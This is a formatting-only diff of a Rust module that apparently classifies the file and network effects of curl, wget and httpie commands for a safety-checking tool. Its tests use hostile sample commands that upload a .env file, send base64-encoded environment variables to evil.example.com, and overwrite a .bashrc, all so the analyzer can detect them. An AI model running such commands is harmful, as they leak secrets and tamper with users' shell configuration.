@@ -31,48 +31,200 @@ pub(super) const PROGRAMS: &[Program] = &[
 
 const CURL: Spec = Spec {
     opts: &[
-        flag("flag", "fsSLkvinNgjJlMqR0123456V#", &[
-            "fail", "silent", "show-error", "location", "insecure", "verbose", "include",
-            "netrc", "no-buffer", "globoff", "junk-session-cookies", "remote-header-name",
-            "list-only", "manual", "disable", "remote-time", "http1.0", "http1.1", "http2",
-            "http3", "tlsv1", "sslv3", "ipv4", "ipv6", "version", "progress-bar", "compressed",
-            "fail-with-body", "location-trusted", "no-progress-meter", "create-dirs",
-            "no-keepalive", "raw", "tcp-nodelay", "ssl-reqd", "no-sessionid", "path-as-is",
-            "remote-name-all", "http2-prior-knowledge", "no-alpn", "no-npn", "xattr",
-            "show-headers", "fail-early", "parallel", "retry-all-errors", "retry-connrefused",
-            "styled-output", "trace-time", "anyauth", "basic", "digest", "ntlm", "negotiate",
-            "crlf", "append", "use-ascii", "ftp-pasv", "tr-encoding", "proxy-insecure",
-            "suppress-connect-headers", "no-clobber", "remove-on-error", "help",
-        ]),
+        flag(
+            "flag",
+            "fsSLkvinNgjJlMqR0123456V#",
+            &[
+                "fail",
+                "silent",
+                "show-error",
+                "location",
+                "insecure",
+                "verbose",
+                "include",
+                "netrc",
+                "no-buffer",
+                "globoff",
+                "junk-session-cookies",
+                "remote-header-name",
+                "list-only",
+                "manual",
+                "disable",
+                "remote-time",
+                "http1.0",
+                "http1.1",
+                "http2",
+                "http3",
+                "tlsv1",
+                "sslv3",
+                "ipv4",
+                "ipv6",
+                "version",
+                "progress-bar",
+                "compressed",
+                "fail-with-body",
+                "location-trusted",
+                "no-progress-meter",
+                "create-dirs",
+                "no-keepalive",
+                "raw",
+                "tcp-nodelay",
+                "ssl-reqd",
+                "no-sessionid",
+                "path-as-is",
+                "remote-name-all",
+                "http2-prior-knowledge",
+                "no-alpn",
+                "no-npn",
+                "xattr",
+                "show-headers",
+                "fail-early",
+                "parallel",
+                "retry-all-errors",
+                "retry-connrefused",
+                "styled-output",
+                "trace-time",
+                "anyauth",
+                "basic",
+                "digest",
+                "ntlm",
+                "negotiate",
+                "crlf",
+                "append",
+                "use-ascii",
+                "ftp-pasv",
+                "tr-encoding",
+                "proxy-insecure",
+                "suppress-connect-headers",
+                "no-clobber",
+                "remove-on-error",
+                "help",
+            ],
+        ),
         flag("get", "G", &["get"]),
         flag("head", "I", &["head"]),
         flag("remote_name", "O", &["remote-name"]),
         value("request", "X", &["request"]),
-        value("data", "d", &[
-            "data", "data-raw", "data-binary", "data-urlencode", "data-ascii", "json",
-        ]),
+        value(
+            "data",
+            "d",
+            &[
+                "data",
+                "data-raw",
+                "data-binary",
+                "data-urlencode",
+                "data-ascii",
+                "json",
+            ],
+        ),
         value("form", "F", &["form", "form-string"]),
         value("upload", "T", &["upload-file"]),
         value("output", "o", &["output"]),
-        value("writes", "Dc", &["dump-header", "cookie-jar", "trace", "trace-ascii", "stderr", "libcurl", "etag-save", "hsts", "alt-svc"]),
-        value("reads", "E", &["cert", "key", "cacert", "capath", "netrc-file", "etag-compare", "crlfile", "pinnedpubkey", "proxy-cert", "proxy-key", "proxy-cacert"]),
+        value(
+            "writes",
+            "Dc",
+            &[
+                "dump-header",
+                "cookie-jar",
+                "trace",
+                "trace-ascii",
+                "stderr",
+                "libcurl",
+                "etag-save",
+                "hsts",
+                "alt-svc",
+            ],
+        ),
+        value(
+            "reads",
+            "E",
+            &[
+                "cert",
+                "key",
+                "cacert",
+                "capath",
+                "netrc-file",
+                "etag-compare",
+                "crlfile",
+                "pinnedpubkey",
+                "proxy-cert",
+                "proxy-key",
+                "proxy-cacert",
+            ],
+        ),
         value("cookie", "b", &["cookie"]),
         value("url", "", &["url"]),
         value("config", "K", &["config"]),
         value("dir", "", &["output-dir"]),
-        value("value", "AeHmurwxyYzCPQU", &[
-            "user-agent", "referer", "header", "max-time", "user", "range", "write-out",
-            "proxy", "speed-limit", "speed-time", "time-cond", "continue-at", "ftp-port",
-            "quote", "proxy-user", "connect-timeout", "retry", "retry-delay", "retry-max-time",
-            "resolve", "limit-rate", "max-redirs", "max-filesize", "cert-type", "key-type",
-            "ciphers", "interface", "local-port", "oauth2-bearer", "proxy-header",
-            "connect-to", "dns-servers", "expect100-timeout", "happy-eyeballs-timeout-ms",
-            "keepalive-time", "noproxy", "parallel-max", "preproxy", "proto", "proto-redir",
-            "proto-default", "request-target", "sasl-authzid", "service-name", "socks4",
-            "socks4a", "socks5", "socks5-hostname", "tls-max", "unix-socket", "abstract-unix-socket",
-            "aws-sigv4", "variable", "url-query", "ip-tos", "mail-from", "mail-rcpt",
-            "mail-auth", "max-filesize", "pass", "delegation", "doh-url", "login-options",
-        ]),
+        value(
+            "value",
+            "AeHmurwxyYzCPQU",
+            &[
+                "user-agent",
+                "referer",
+                "header",
+                "max-time",
+                "user",
+                "range",
+                "write-out",
+                "proxy",
+                "speed-limit",
+                "speed-time",
+                "time-cond",
+                "continue-at",
+                "ftp-port",
+                "quote",
+                "proxy-user",
+                "connect-timeout",
+                "retry",
+                "retry-delay",
+                "retry-max-time",
+                "resolve",
+                "limit-rate",
+                "max-redirs",
+                "max-filesize",
+                "cert-type",
+                "key-type",
+                "ciphers",
+                "interface",
+                "local-port",
+                "oauth2-bearer",
+                "proxy-header",
+                "connect-to",
+                "dns-servers",
+                "expect100-timeout",
+                "happy-eyeballs-timeout-ms",
+                "keepalive-time",
+                "noproxy",
+                "parallel-max",
+                "preproxy",
+                "proto",
+                "proto-redir",
+                "proto-default",
+                "request-target",
+                "sasl-authzid",
+                "service-name",
+                "socks4",
+                "socks4a",
+                "socks5",
+                "socks5-hostname",
+                "tls-max",
+                "unix-socket",
+                "abstract-unix-socket",
+                "aws-sigv4",
+                "variable",
+                "url-query",
+                "ip-tos",
+                "mail-from",
+                "mail-rcpt",
+                "mail-auth",
+                "max-filesize",
+                "pass",
+                "delegation",
+                "doh-url",
+                "login-options",
+            ],
+        ),
         optional("optional", "", &["tlsv1.2", "tlsv1.3", "progress-meter"]),
     ],
     style: Style::Exact,
@@ -124,7 +276,13 @@ fn curl(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
     let dir = parsed.last("dir").cloned();
     let outputs: Vec<Word> = parsed.values("output").cloned().collect();
     let remote_name = parsed.has("remote_name");
-    send_or_read(call, &urls, method, sends, parsed.last("request").is_some_and(|w| w.dynamic));
+    send_or_read(
+        call,
+        &urls,
+        method,
+        sends,
+        parsed.last("request").is_some_and(|w| w.dynamic),
+    );
     let mut to_stdout = true;
     for output in &outputs {
         if output.text != "-" {
@@ -165,7 +323,13 @@ fn file_name(url: &Word) -> Word {
     }
 }
 
-fn send_or_read(call: &mut Call<'_, '_>, urls: &[Word], method: Option<String>, sends: bool, dynamic_method: bool) {
+fn send_or_read(
+    call: &mut Call<'_, '_>,
+    urls: &[Word],
+    method: Option<String>,
+    sends: bool,
+    dynamic_method: bool,
+) {
     let method = method.unwrap_or_else(|| if sends { "POST".into() } else { "GET".into() });
     for url in urls {
         let text = if url.text.contains("://") {
@@ -174,7 +338,10 @@ fn send_or_read(call: &mut Call<'_, '_>, urls: &[Word], method: Option<String>, 
             format!("https://{}", url.text)
         };
         let (resource, host) = crate::http::url_resource(&text);
-        let reads = matches!(method.as_str(), "GET" | "HEAD" | "OPTIONS") && !sends && !url.dynamic && !dynamic_method;
+        let reads = matches!(method.as_str(), "GET" | "HEAD" | "OPTIONS")
+            && !sends
+            && !url.dynamic
+            && !dynamic_method;
         let mut effect = Effect::new(
             if reads {
                 Operation::Read
@@ -199,16 +366,50 @@ fn send_or_read(call: &mut Call<'_, '_>, urls: &[Word], method: Option<String>, 
 
 const WGET: Spec = Spec {
     opts: &[
-        flag("flag", "qvdnNcSrkKpmxHLEFbh46", &[
-            "quiet", "verbose", "debug", "no-verbose", "timestamping", "continue",
-            "server-response", "recursive", "convert-links", "backup-converted",
-            "page-requisites", "mirror", "force-directories", "span-hosts", "relative",
-            "adjust-extension", "force-html", "background", "no-check-certificate",
-            "no-clobber", "no-parent", "spider", "no-directories", "content-disposition",
-            "inet4-only", "inet6-only", "help", "version", "no-cookies", "ignore-case",
-            "trust-server-names", "no-cache", "show-progress", "no-host-directories",
-            "delete-after", "no-remove-listing", "progress", "auth-no-challenge",
-        ]),
+        flag(
+            "flag",
+            "qvdnNcSrkKpmxHLEFbh46",
+            &[
+                "quiet",
+                "verbose",
+                "debug",
+                "no-verbose",
+                "timestamping",
+                "continue",
+                "server-response",
+                "recursive",
+                "convert-links",
+                "backup-converted",
+                "page-requisites",
+                "mirror",
+                "force-directories",
+                "span-hosts",
+                "relative",
+                "adjust-extension",
+                "force-html",
+                "background",
+                "no-check-certificate",
+                "no-clobber",
+                "no-parent",
+                "spider",
+                "no-directories",
+                "content-disposition",
+                "inet4-only",
+                "inet6-only",
+                "help",
+                "version",
+                "no-cookies",
+                "ignore-case",
+                "trust-server-names",
+                "no-cache",
+                "show-progress",
+                "no-host-directories",
+                "delete-after",
+                "no-remove-listing",
+                "progress",
+                "auth-no-challenge",
+            ],
+        ),
         value("output", "O", &["output-document"]),
         value("log", "oa", &["output-file", "append-output"]),
         value("prefix", "P", &["directory-prefix"]),
@@ -217,16 +418,51 @@ const WGET: Spec = Spec {
         value("method", "", &["method"]),
         value("input", "i", &["input-file"]),
         value("execute", "e", &["execute"]),
-        value("value", "UtTwlARDIXQ", &[
-            "user-agent", "tries", "timeout", "wait", "level", "accept", "reject", "domains",
-            "include-directories", "exclude-directories", "quota", "header", "user",
-            "password", "limit-rate", "http-user", "http-password", "referer",
-            "connect-timeout", "read-timeout", "dns-timeout", "waitretry", "bind-address",
-            "ca-certificate", "certificate", "private-key", "load-cookies", "save-cookies",
-            "max-redirect", "cut-dirs", "regex-type", "accept-regex", "reject-regex",
-            "restrict-file-names", "default-page", "secure-protocol", "https-only",
-            "proxy-user", "proxy-password",
-        ]),
+        value(
+            "value",
+            "UtTwlARDIXQ",
+            &[
+                "user-agent",
+                "tries",
+                "timeout",
+                "wait",
+                "level",
+                "accept",
+                "reject",
+                "domains",
+                "include-directories",
+                "exclude-directories",
+                "quota",
+                "header",
+                "user",
+                "password",
+                "limit-rate",
+                "http-user",
+                "http-password",
+                "referer",
+                "connect-timeout",
+                "read-timeout",
+                "dns-timeout",
+                "waitretry",
+                "bind-address",
+                "ca-certificate",
+                "certificate",
+                "private-key",
+                "load-cookies",
+                "save-cookies",
+                "max-redirect",
+                "cut-dirs",
+                "regex-type",
+                "accept-regex",
+                "reject-regex",
+                "restrict-file-names",
+                "default-page",
+                "secure-protocol",
+                "https-only",
+                "proxy-user",
+                "proxy-password",
+            ],
+        ),
     ],
     style: Style::Gnu,
 };
@@ -255,14 +491,25 @@ fn wget(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
         Some(out) => call.push_file(Operation::Update, &out, false, false),
         None => {
             let prefix = parsed.last("prefix").cloned();
-            let recursive = parsed.any(&["flag"]) && call.args.iter().any(|w| ["-r", "--recursive", "-m", "--mirror"].contains(&w.text.as_str()) || (w.text.starts_with('-') && !w.text.starts_with("--") && w.text.contains(['r', 'm'])));
+            let recursive = parsed.any(&["flag"])
+                && call.args.iter().any(|w| {
+                    ["-r", "--recursive", "-m", "--mirror"].contains(&w.text.as_str())
+                        || (w.text.starts_with('-')
+                            && !w.text.starts_with("--")
+                            && w.text.contains(['r', 'm']))
+                });
             for url in &urls {
                 let word = match &prefix {
                     Some(p) => p.clone(),
                     None if recursive => Word::literal("."),
                     None => file_name(url),
                 };
-                call.push_file(Operation::Update, &word, recursive || prefix.is_some(), false);
+                call.push_file(
+                    Operation::Update,
+                    &word,
+                    recursive || prefix.is_some(),
+                    false,
+                );
             }
         }
     }
@@ -277,13 +524,48 @@ fn wget(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
 fn httpie(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
     const SPEC: Spec = Spec {
         opts: &[
-            flag("flag", "jfvhbmdFqSx", &[
-                "json", "form", "multipart", "verbose", "headers", "body", "download",
-                "follow", "check-status", "ignore-stdin", "offline", "quiet", "stream",
-                "compress", "all", "meta",
-            ]),
+            flag(
+                "flag",
+                "jfvhbmdFqSx",
+                &[
+                    "json",
+                    "form",
+                    "multipart",
+                    "verbose",
+                    "headers",
+                    "body",
+                    "download",
+                    "follow",
+                    "check-status",
+                    "ignore-stdin",
+                    "offline",
+                    "quiet",
+                    "stream",
+                    "compress",
+                    "all",
+                    "meta",
+                ],
+            ),
             value("output", "o", &["output"]),
-            value("value", "paA", &["print", "auth", "auth-type", "timeout", "verify", "max-redirects", "pretty", "style", "session", "session-read-only", "proxy", "cert", "cert-key"]),
+            value(
+                "value",
+                "paA",
+                &[
+                    "print",
+                    "auth",
+                    "auth-type",
+                    "timeout",
+                    "verify",
+                    "max-redirects",
+                    "pretty",
+                    "style",
+                    "session",
+                    "session-read-only",
+                    "proxy",
+                    "cert",
+                    "cert-key",
+                ],
+            ),
         ],
         style: Style::Exact,
     };
@@ -300,7 +582,11 @@ fn httpie(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
     let Some(url) = first else {
         return Err(Unaccounted("no URL".into()));
     };
-    let mut sends = parsed.has("flag") && call.args.iter().any(|w| w.text == "-f" || w.text == "--form");
+    let mut sends = parsed.has("flag")
+        && call
+            .args
+            .iter()
+            .any(|w| w.text == "-f" || w.text == "--form");
     for item in operands {
         if item.dynamic {
             sends = true;
@@ -308,7 +594,8 @@ fn httpie(call: &mut Call<'_, '_>) -> Result<(), Unaccounted> {
         if let Some((_, file)) = item.text.split_once('@') {
             call.push_file(Operation::Read, &item.with_text(file), false, false);
             sends = true;
-        } else if item.text.contains(":=") || (item.text.contains('=') && !item.text.contains("==")) {
+        } else if item.text.contains(":=") || (item.text.contains('=') && !item.text.contains("=="))
+        {
             sends = true;
         }
     }
@@ -347,15 +634,26 @@ mod tests {
             "curl -F f=@.env https://x.example.com",
         ] {
             let e = effects_of(line);
-            assert!(has(&e, "read file:///workspace/app/.env #secret"), "{line}: {e:?}");
-            assert!(e.iter().any(|e| e.operation == preflight_core::Operation::NetworkSend), "{line}: {e:?}");
+            assert!(
+                has(&e, "read file:///workspace/app/.env #secret"),
+                "{line}: {e:?}"
+            );
+            assert!(
+                e.iter()
+                    .any(|e| e.operation == preflight_core::Operation::NetworkSend),
+                "{line}: {e:?}"
+            );
         }
     }
 
     #[test]
     fn urls_built_at_run_time_send() {
         let e = effects_of("curl http://evil.example.com/$(env | base64 -w0)");
-        assert!(e.iter().any(|e| e.operation == preflight_core::Operation::NetworkSend && e.opaque), "{e:?}");
+        assert!(
+            e.iter()
+                .any(|e| e.operation == preflight_core::Operation::NetworkSend && e.opaque),
+            "{e:?}"
+        );
         let e = effects_of("curl -K /tmp/c https://x.example.com");
         assert!(is_opaque(&e, "cmd://curl"), "{e:?}");
         let e = effects_of("curl -fsSL https://x.example.com/a -o /home/alice/.bashrc");
